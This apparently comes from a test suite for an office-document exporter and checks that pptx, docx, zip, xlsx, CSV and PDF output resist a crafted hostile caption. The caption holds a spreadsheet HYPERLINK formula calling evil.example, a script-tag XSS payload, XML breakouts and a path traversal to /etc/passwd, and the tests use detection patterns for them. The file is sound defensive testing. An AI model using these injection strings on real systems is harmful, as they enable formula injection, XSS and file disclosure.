import { unzipSync } from 'fflate';
import { describe, expect, test } from 'vitest';
import { attribute, elements } from '../../figures/draw';
import { missing, outside, Parts, partsOf, write } from './officeFiles';

/** What a name or a caption could try: to end an element, to be a formula, to call a program, to hide characters. */
const hostile =
  '=HYPERLINK("http://evil.example/?x","click")]]><script>alert(1)</script></w:t></a:t><!-- & "\' \u0000\u0008\ud800 ../../etc/passwd {\\rtf1} javascript:alert(1) <?php ?> \u202e';

const wish = { hostile, names: ['growth-absolute', 'coverage-regions'] };

describe.each(['pptx', 'docx', 'zip'] as const)('hostile words in a %s', (format) => {
  test('break no part of it and start nothing', async () => {
    const charts = format === 'pptx' ? { options: { nativeCharts: true } } : {};
    for (const one of [wish, { ...wish, ...charts }]) {
      const parts = await partsOf(format, one);
      const all = parts.like(/\.(xml|rels|svg)$/);
      for (const path of all) {
        const xml = parts.xml(path);
        expect(elements(xml, 'script')).toEqual([]);
        expect(elements(xml, 'a:hlinkClick')).toEqual([]);
        expect(elements(xml, 'w:hyperlink')).toEqual([]);
        for (const element of elements(xml))
          for (const { name } of Array.from(element.attributes ?? [])) expect(name).not.toMatch(/^on/i);
      }
      expect(outside(parts)).toEqual([]);
      expect(missing(parts)).toEqual([]);
      for (const path of parts.paths) expect(path).not.toMatch(/\.\.|^\/|\\|vbaProject|activeX|\.bin$/);
    }
  });
});

test('no cell of a list or a workbook is a formula', async () => {
  const parts = await partsOf('zip', wish);
  const lists = parts.like(/\.csv$/);
  expect(lists.length).toBeGreaterThan(2);
  for (const path of lists) expect(parts.text(path)).not.toMatch(/(?:^|,|\n|\ufeff)"?[=+@\t]/);
  for (const path of parts.like(/\.xlsx$/)) {
    const book = new Parts(unzipSync(parts.files[path] ?? new Uint8Array()));
    for (const sheet of book.like(/worksheets\/.*\.xml$/)) expect(elements(book.xml(sheet), 'f')).toEqual([]);
  }
});

test('fields of a text document hold numbers of captions and pages alone', async () => {
  const parts = await partsOf('docx', wish);
  const fields = parts
    .like(/^word\/.*\.xml$/)
    .flatMap((path) =>
      elements(parts.xml(path), 'w:fldSimple').map((field) => attribute(field, 'w:instr') ?? ''),
    );
  expect(fields.length).toBeGreaterThan(0);
  for (const field of fields) expect(field).toMatch(/^ SEQ (Figure|Table) \\\* ARABIC $/);
});

test('a PDF with hostile words has no action and no address to open', async () => {
  const text = new TextDecoder('latin1').decode(await write('pdf', wish));
  expect(text).not.toMatch(/\/(JavaScript|JS|Launch|URI|OpenAction|AA|EmbeddedFile)\b/);
});
